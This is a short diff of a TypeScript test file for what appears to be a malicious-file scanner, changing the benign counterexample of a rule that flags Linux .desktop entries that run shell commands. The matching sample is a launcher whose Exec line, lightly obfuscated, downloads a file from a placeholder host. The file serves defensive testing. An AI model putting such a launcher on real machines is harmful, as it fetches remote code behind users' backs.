@@ -35,7 +35,7 @@ export const unix: RuleCases = {
   },
   Desktop_Entry_Runs_Command: {
     match: ['a.desktop', t('[Desktop Entry]\nType=Application\nExec=ba~sh -c "cu~rl https://x.example/a > /tmp/a"\n')],
-    miss: ['a.desktop', '[Desktop Entry]\nType=Application\nExec=sh -c "exec /usr/bin/editor %F"\n'],
+    miss: ['a.desktop', '[Desktop Entry]\nType=Application\nExec=/usr/bin/editor --from https://example.com %F\n'],
   },
   Mac_Script_Asks_For_Password: {
     match: [
